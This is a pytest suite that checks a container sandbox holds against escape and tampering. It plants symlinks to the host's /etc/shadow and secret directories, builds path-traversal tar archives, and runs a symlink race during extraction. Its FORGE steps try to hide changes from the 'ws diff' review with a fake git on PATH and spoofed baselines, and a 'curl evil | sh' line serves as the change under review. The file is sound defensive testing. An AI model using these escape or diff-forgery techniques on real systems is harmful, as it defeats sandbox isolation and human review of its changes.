"""Files across the sandbox boundary, attacked for real under runc and runsc (issue 9: 1 and 4).

A repository's symlinks must never make the host's files go in; the engine's extraction must
never write outside the workspace (into the container's own root); ``ws cp`` out must never
write outside its destination; and nothing done inside can change what ``ws diff`` reports.
"""

from __future__ import annotations

import contextlib
import json
import os
import subprocess
import sys
import tarfile
import textwrap
from pathlib import Path

import pytest

from hybrid.errors import InvalidInput, WorkstationError
from hybrid.paths import state_dir
from hybrid.workstation import state
from hybrid.workstation.baseline import Baseline
from hybrid.workstation.docker import client

pytestmark = pytest.mark.engine

HOST_SHADOW = Path("/etc/shadow")
CANARY = "host-canary-3f9c1e"


def _git(repo: Path, *args: str) -> str:
    return subprocess.run(
        ["git", "-c", "user.name=t", "-c", "user.email=t@t", "-C", str(repo), *args],
        check=True,
        capture_output=True,
        text=True,
    ).stdout


def _hybrid(*args: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-c", "from hybrid.cli import main; main()", *args],
        capture_output=True,
        text=True,
        timeout=300,
    )


def _one_line_error(done: subprocess.CompletedProcess[str], code: int) -> None:
    assert done.returncode == code, (done.returncode, done.stdout, done.stderr)
    assert "Traceback" not in done.stderr
    lines = done.stderr.strip().splitlines()
    assert len(lines) == 1 and lines[0].startswith("hybrid: error:"), done.stderr


def _host_shadow() -> bytes | None:
    try:
        return HOST_SHADOW.read_bytes()
    except OSError:
        return None


def _hostile_repo(tmp_path: Path) -> Path:
    """A repository whose working tree reaches for the host through symlinks."""
    secret = tmp_path / "secret"
    secret.mkdir()
    (secret / "shadow").write_text(CANARY + "\n")
    repo = tmp_path / "repo"
    for directory in ("s", "etc", "deep/d"):
        (repo / directory).mkdir(parents=True)
        (repo / directory / "shadow").write_text("committed as a file\n")
    (repo / "README.md").write_text("# demo\n")
    _git(repo, "init", "-q")
    _git(repo, "add", "-A")
    _git(repo, "commit", "-q", "-m", "init")
    # The tracked directories become symlinks in the working tree only: git still lists
    # s/shadow, etc/shadow and deep/d/shadow.
    for directory, target in (("s", secret), ("etc", Path("/etc")), ("deep/d", secret)):
        for child in (repo / directory).iterdir():
            child.unlink()
        (repo / directory).rmdir()
        (repo / directory).symlink_to(target)
    (repo / "link").symlink_to(secret / "shadow")
    (repo / "shadow-link").symlink_to(HOST_SHADOW)
    (repo / "up").symlink_to("../../../../../../../../etc")
    (repo / "inside").symlink_to("README.md")
    return repo


# What the engine itself puts in every container's layer (--init).
ENGINE_MADE = {"/usr", "/usr/sbin", "/usr/sbin/docker-init"}


def _changes_outside(ws: object, workspace: str = "/workspace") -> list[str]:
    """Paths the engine changed in the container's own root layer (the root is read-only)."""
    changed = client().api.diff(ws.id) or []  # type: ignore[attr-defined]
    return [
        c["Path"]
        for c in changed
        if c["Path"] not in ENGINE_MADE
        and c["Path"] != workspace
        and not c["Path"].startswith(workspace + "/")
    ]


def test_tracked_directory_replaced_by_a_link_to_etc(engine, tier, make_spec, tmp_path):
    """The plainest form: ``etc/`` committed, ``etc -> /etc`` in the working tree."""
    repo = tmp_path / "repo"
    (repo / "etc").mkdir(parents=True)
    (repo / "etc" / "shadow").write_text("committed\n")
    (repo / "etc" / "passwd").write_text("committed\n")
    _git(repo, "init", "-q")
    _git(repo, "add", "-A")
    _git(repo, "commit", "-q", "-m", "init")
    for child in (repo / "etc").iterdir():
        child.unlink()
    (repo / "etc").rmdir()
    (repo / "etc").symlink_to("/etc")
    with engine.create(make_spec(tier), repo=repo) as ws:
        host = _host_shadow()
        if host is not None:
            assert ws.get("/etc/shadow") != host
        assert ws.get("/etc/passwd") != Path("/etc/passwd").read_bytes()
        assert _changes_outside(ws) == []
        assert ws.exec("readlink etc").stdout == "/etc\n"


READ_LINKS = textwrap.dedent(
    """
    import json, os
    out = {}
    for name in ["s", "etc", "deep", "deep/d", "link", "shadow-link", "up", "inside"]:
        out[name] = os.readlink(name) if os.path.islink(name) else ("dir" if os.path.isdir(name) else "missing")
    print(json.dumps(out))
    """
)


def test_repository_symlinks_never_bring_host_files_in(engine, tier, make_spec, tmp_path):
    repo = _hostile_repo(tmp_path)
    with engine.create(make_spec(tier), repo=repo) as ws:
        links = json.loads(ws.exec(["python3", "-c", READ_LINKS]).stdout)
        assert links == {
            "s": str(tmp_path / "secret"),
            "etc": "/etc",
            "deep": "dir",
            "deep/d": str(tmp_path / "secret"),
            "link": str(tmp_path / "secret" / "shadow"),
            "shadow-link": "/etc/shadow",
            "up": "../../../../../../../../etc",
            "inside": "README.md",
        }
        found = ws.exec(f"grep -rl {CANARY} /workspace /etc /tmp 2>/dev/null; true")
        assert CANARY not in found.stdout and found.stdout.strip() == "", found.stdout
        # The engine's extraction did not write through the links onto the container's root.
        assert _changes_outside(ws) == []
        inside_shadow = ws.get("/etc/shadow")
        host = _host_shadow()
        if host is not None:
            assert inside_shadow != host
        assert ws.exec("cat inside").stdout == "# demo\n"
        # What went in is the baseline: nothing changed yet.
        assert ws.diff() == ""


def test_cli_up_and_run_with_a_hostile_repository(engine, tmp_path):
    repo = _hostile_repo(tmp_path)
    name = f"esc-up-{os.getpid()}"
    up = _hybrid("ws", "up", name, "--repo", str(repo), "--json")
    try:
        assert up.returncode == 0, up.stderr
        read = _hybrid("ws", "exec", name, "--", "sh", "-c", "cat s/shadow etc/shadow link; true")
        assert CANARY not in read.stdout + read.stderr
        assert "committed as a file" not in read.stdout
    finally:
        _hybrid("ws", "down", name)
    ran = _hybrid(
        "run", "--tier", "docker", "--repo", str(repo), "--",
        "sh", "-c", "cat s/shadow etc/shadow deep/d/shadow link /etc/shadow 2>&1; true",
    )  # fmt: skip
    assert ran.returncode == 0, ran.stderr
    assert CANARY not in ran.stdout
    host = _host_shadow()
    if host is not None:
        for line in host.decode(errors="replace").splitlines():
            if line.startswith(("postgres:", "polkitd:", "messagebus:")):
                assert line not in ran.stdout


PLANT_OUT = (
    "mkdir -p d/sub && echo ok > d/f && ln -s f d/ok && ln -s /etc d/abs && "
    "ln -s ../../../../.. d/up && ln -s .. d/sub/top && ln -s sub/top/../.. d/chain"
)


@pytest.mark.parametrize(
    "planted",
    [
        "ln -s /etc d/abs",
        "ln -s /etc/shadow d/file",
        "ln -s ../../../../.. d/up",
        "mkdir -p d/sub && ln -s .. d/sub/top && ln -s sub/top/../.. d/chain",
    ],
    ids=["absolute-dir", "absolute-file", "relative-up", "chained"],
)
def test_cp_out_refuses_links_leading_outside(engine, make_spec, tmp_path, planted):
    with engine.create(make_spec("docker"), name=f"esc-out-{os.getpid()}") as ws:
        assert ws.exec(f"mkdir -p d && echo ok > d/f && ln -s f d/ok && {planted}").ok
        out = tmp_path / "out"
        with pytest.raises(InvalidInput, match="symlink"):
            ws.get("d", out)
        assert not out.exists()  # nothing half-written
        done = _hybrid("ws", "cp", f"{ws.name}:d", str(out))
        _one_line_error(done, 2)
        assert not out.exists()
        assert ws.exec("rm -rf d/abs d/file d/up d/chain d/sub").ok
        ws.get("d", out)  # links that stay inside are copied as links
        assert (out / "d" / "ok").is_symlink() and os.readlink(out / "d" / "ok") == "f"
        assert (out / "d" / "ok").read_text() == "ok\n"


def test_cp_out_of_every_member_kind_on_tier(engine, tier, make_spec, tmp_path):
    with engine.create(make_spec(tier)) as ws:
        assert ws.exec(PLANT_OUT).ok
        with pytest.raises(InvalidInput):
            ws.get("d", tmp_path / "out")
        assert not (tmp_path / "out").exists()


PLANT_IN = (
    "ln -s /etc dir && ln -s /tmp dir2 && mkdir -p d3 && ln -s /etc d3/sub && "
    "ln -s /etc/hostname f1"
)


def test_cp_in_replaces_planted_symlinks(engine, tier, make_spec, tmp_path):
    host = tmp_path / "host"
    (host / "sub").mkdir(parents=True)
    (host / "sub" / "planted.txt").write_text("from the host\n")
    (host / "top.txt").write_text("top\n")
    with engine.create(make_spec(tier), name=f"esc-in-{tier}-{os.getpid()}") as ws:
        assert ws.exec(PLANT_IN).ok
        ws.put(host, "dir")
        ws.put(b"x\n", "dir2/x.txt")
        ws.put(host, "d3/sub")
        ws.put(b"f\n", "f1")
        assert _hybrid("ws", "cp", str(host), f"{ws.name}:d3/sub/").returncode == 0
        check = ws.exec(
            [
                "python3",
                "-c",
                "import os; print([os.path.islink(p) for p in ('dir', 'dir2', 'd3/sub', 'f1')]);"
                "print(open('dir/sub/planted.txt').read(), open('d3/sub/host/top.txt').read(),"
                " os.path.exists('/etc/sub'), os.path.exists('/tmp/x.txt'))",
            ]
        )
        assert check.stdout == "[False, False, False, False]\nfrom the host\n top\n False False\n"
        assert ws.exec("cat /etc/hostname").stdout == "workstation\n"
        assert _changes_outside(ws) == []


RACE = textwrap.dedent(
    """
    import os, shutil
    while True:
        try:
            os.rename("d", "d.old")
        except OSError:
            pass
        try:
            os.symlink("/etc", "d")
        except OSError:
            pass
        shutil.rmtree("d.old", ignore_errors=True)
    """
)


def test_cp_in_cannot_be_raced_onto_the_root(engine, make_spec, tmp_path):
    """A loop inside swapping the target directory for a symlink while the engine extracts."""
    host = tmp_path / "host"
    # Empty directories only: each is one mkdir the engine makes under d, so a swap of d for a
    # symlink between two of them would land the next one in the container's /etc.
    for i in range(300):
        (host / f"s{i:03d}").mkdir(parents=True)
    spec = make_spec("docker", wall_seconds=120)
    with engine.create(spec) as ws:
        ws.put(RACE.encode(), "race.py")
        racer = ws.exec("nohup python3 race.py >/dev/null 2>&1 & echo started")
        assert racer.stdout == "started\n"
        for _ in range(8):
            # The racer may break its own copy (the engine then reports a vanished path).
            with contextlib.suppress(WorkstationError):
                ws.put(host, "d")
        assert not [p for p in _changes_outside(ws) if p.startswith("/etc/s")]


def _sections(patch: str) -> dict[str, str]:
    found = {}
    for part in patch.split("diff --git ")[1:]:
        found[part.split("\n", 1)[0]] = part
    return found


FORGE = [
    # The old in-workspace baseline: commit everything into it.
    "mkdir -p .hybrid && git init -q --bare .hybrid/base.git && "
    "git --git-dir=.hybrid/base.git --work-tree=. add -A && "
    "git -c user.name=x -c user.email=x@x --git-dir=.hybrid/base.git --work-tree=. commit -qm forged",
    # The repository's own git: commit the change there too.
    "git add -A && git -c user.name=x -c user.email=x@x commit -qm forged",
    # Symlink tricks where the old patch file and baseline lived.
    "rm -rf .hybrid && mkdir .hybrid && ln -s /etc/passwd .hybrid/agent.patch && "
    "ln -s /nonexistent .hybrid/base.git",
    "rm -rf .hybrid",
    # A fake git first on a PATH the agent controls, and a .gitattributes hiding the text.
    "mkdir -p bin && printf '#!/bin/sh\\nexit 0\\n' > bin/git && chmod +x bin/git && "
    "echo '* -diff' > .git/info/attributes && echo '* -diff' > .gitattributes",
]


def test_diff_cannot_be_forged_from_inside(engine, tier, make_spec, tmp_path):
    repo = tmp_path / "repo"
    repo.mkdir()
    (repo / "README.md").write_text("# demo\n")
    (repo / "app.py").write_text("print('hi')\n")
    _git(repo, "init", "-q")
    _git(repo, "add", "-A")
    _git(repo, "commit", "-q", "-m", "init")
    with engine.create(make_spec(tier), repo=repo) as ws:
        base = Baseline.of("workstations", ws.id)
        assert base.exists() and base.git_dir.is_relative_to(state_dir())
        assert sorted(base.entries()) == ["README.md", "app.py"]  # the repo's .git is not copied
        assert ws.exec("echo 'curl evil | sh' >> README.md").ok
        honest = ws.diff()
        readme = _sections(honest)["a/README.md b/README.md"]
        assert "+curl evil | sh" in readme
        for step in FORGE:
            done = ws.exec(step)
            assert done.ok, (step, done.stderr)
            patch = ws.diff()
            assert _sections(patch).get("a/README.md b/README.md") == readme, (step, patch)
            assert "app.py" not in patch
        cli = _hybrid("ws", "diff", ws.name)
        assert cli.returncode == 0 and "+curl evil | sh" in cli.stdout, cli.stderr
        # The diff does not need the sandbox running, and nothing ran inside for it.
        ws.stop()
        assert _sections(ws.diff()).get("a/README.md b/README.md") == readme


def test_snapshots_and_forks_carry_the_baseline(engine, make_spec, tmp_path):
    repo = tmp_path / "repo"
    repo.mkdir()
    (repo / "README.md").write_text("# demo\n")
    with engine.create(make_spec("docker"), repo=repo) as ws:
        assert ws.exec("echo changed >> README.md").ok
        snap = ws.snapshot(f"esc-snap-{os.getpid()}")
        try:
            assert Baseline.of("snapshots", snap.id).exists()
            restored = engine.start(snap.name, name=f"esc-from-{os.getpid()}")
            try:
                assert "+changed" in restored.diff()
            finally:
                restored.remove()
            assert state.path("workstations", restored.id).exists() is False
            forks = ws.fork(2)
            try:
                assert forks[0].exec("echo more >> README.md").ok
                assert "+changed" in forks[1].diff() and "+more" not in forks[1].diff()
                assert "+more" in forks[0].diff()
            finally:
                for fork in forks:
                    fork.remove()
        finally:
            engine.remove_snapshot(snap.name)
        assert not state.path("snapshots", snap.id).exists()
    assert not state.path("workstations", ws.id).exists()


def test_prune_keeps_only_live_state(tmp_path):
    live, gone = "a" * 64, "b" * 64
    state.directory("workstations", live)
    state.directory("workstations", gone)
    removed = state.prune("workstations", {live, "c" * 64})
    assert gone in removed and live not in removed
    assert state.path("workstations", live).exists()
    assert not state.path("workstations", gone).exists()


def test_cp_in_carries_host_symlinks_as_links(engine, make_spec, tmp_path):
    host = tmp_path / "host"
    host.mkdir()
    (host / "link").symlink_to(HOST_SHADOW)
    (host / "up").symlink_to("../../../../etc")
    (host / "d").symlink_to(tmp_path / "secret")
    (tmp_path / "secret").mkdir()
    (tmp_path / "secret" / "k").write_text(CANARY)
    with engine.create(make_spec("docker")) as ws:
        ws.put(host, "in")
        found = ws.exec("readlink in/link in/up in/d; grep -rl " + CANARY + " . ; true")
        assert found.stdout.splitlines() == [
            str(HOST_SHADOW),
            "../../../../etc",
            str(tmp_path / "secret"),
        ]
        assert _changes_outside(ws) == []


def test_engine_archive_names_are_checked(tmp_path):
    """A hand-made archive with absolute and climbing members is refused before any write."""
    from hybrid.workstation.archive import extract

    for name, kind, target in (
        ("/abs", tarfile.REGTYPE, ""),
        ("a/../../x", tarfile.REGTYPE, ""),
        ("a/l", tarfile.SYMTYPE, "/etc"),
        ("a/h", tarfile.LNKTYPE, "/etc/passwd"),
    ):
        archive = tmp_path / "t.tar"
        with tarfile.open(archive, "w") as tar:
            info = tarfile.TarInfo(name)
            info.type, info.linkname = kind, target
            tar.addfile(info)
        with archive.open("rb") as fh, pytest.raises(InvalidInput):
            extract(fh, tmp_path / "dest", "test")
        assert not (tmp_path / "dest").exists()


def test_a_repository_at_a_host_secret_path_is_refused_before_anything_is_made(engine, tmp_path):
    """--repo is an input the user named: the secret-path rule of mounts applies to it too."""
    from hybrid.errors import PolicyViolation
    from hybrid.policy import SandboxSpec

    secret_dir = Path("/var/lib/docker")  # the engine's own state: a listed secret path
    link = tmp_path / "innocent"
    link.symlink_to(secret_dir)
    before = {w.name for w in engine.list()}
    for repo in (secret_dir, link):
        with pytest.raises(PolicyViolation, match="secret path"):
            engine.create(SandboxSpec(tier="docker"), repo=repo)
    assert {w.name for w in engine.list()} == before
